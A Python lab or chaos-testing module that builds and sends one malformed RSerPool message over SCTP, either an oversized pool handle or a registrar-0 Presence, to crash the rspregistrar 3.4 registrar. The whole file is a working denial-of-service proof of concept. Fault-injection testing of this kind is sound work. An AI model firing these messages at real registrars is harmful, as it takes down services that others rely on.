"""Sends a registrar one message that ends rspregistrar 3.4.

For labs: `python -m rspdns_lab.chaos.fatal_message KIND ADDRESS`, run where SCTP works. KIND: `long-handle`,
a handle resolution with a pool handle of 33 bytes, or `identifier-zero`, a presence of the registrar 0.
"""

import contextlib
import struct
import sys
import time
from collections.abc import Callable
from ipaddress import ip_address
from typing import Final

from rserpool import (
    ASAP,
    ENRP,
    AssociationUp,
    Presence,
    Protocol,
    RegistrarAddress,
    SctpSocket,
    ServerInformation,
    Transport,
    enrp,
)

_HANDLE_RESOLUTION: Final = 5
_POOL_HANDLE: Final = 9
_TIMEOUT_S: Final = 5.0
RegistrarEndpoint = tuple[str, int]


def long_handle(_own: RegistrarEndpoint, length: int = 33) -> bytes:
    """Return an ASAP Handle Resolution with a handle of `length` bytes (RFC 5352, section 2.2.5)."""
    parameter = struct.pack(">HH", _POOL_HANDLE, 4 + length) + b"x" * length + bytes(-length % 4)
    return struct.pack(">BBH", _HANDLE_RESOLUTION, 0, 4 + len(parameter)) + parameter


def identifier_zero(own: RegistrarEndpoint) -> bytes:
    """Return an ENRP Presence of the registrar 0 at the endpoint `own` (RFC 5353, section 2.2)."""
    transport = Transport(Protocol.SCTP, own[1], (ip_address(own[0]),))
    return enrp.encode(Presence(0, 0, 0, ServerInformation(0, transport)))


KINDS: Final[dict[str, tuple[int, Callable[[RegistrarEndpoint], bytes]]]] = {
    "long-handle": (ASAP.ppid, long_handle),
    "identifier-zero": (ENRP.ppid, identifier_zero),
}
"""For each kind its payload protocol, and what makes the message, given the endpoint of the sender."""


def send(kind: str, address: RegistrarAddress) -> bool:
    """Send it; return whether there was somebody to send it to."""
    ppid, message = KINDS[kind]
    sender = SctpSocket()
    sender.connect(address.enrp_endpoint if ppid == ENRP.ppid else address.endpoint)
    end_s = time.monotonic() + _TIMEOUT_S
    while time.monotonic() < end_s:
        with contextlib.suppress(BlockingIOError):
            if isinstance(up := sender.receive(), AssociationUp):
                sender.send(up.association, ppid, message(_own(sender, up.association)))
                time.sleep(0.3)  # closing the socket must not overtake it
                return True
        time.sleep(0.005)
    return False


def _own(sender: SctpSocket, association: int) -> RegistrarEndpoint:
    """Return the sender's endpoint as others reach it: rspregistrar compares it with the association."""
    return next(own for own in sender.locals(association) if not ip_address(own[0]).is_loopback)


if __name__ == "__main__":
    sys.exit(0 if send(sys.argv[1], RegistrarAddress.parse(sys.argv[2])) else 1)
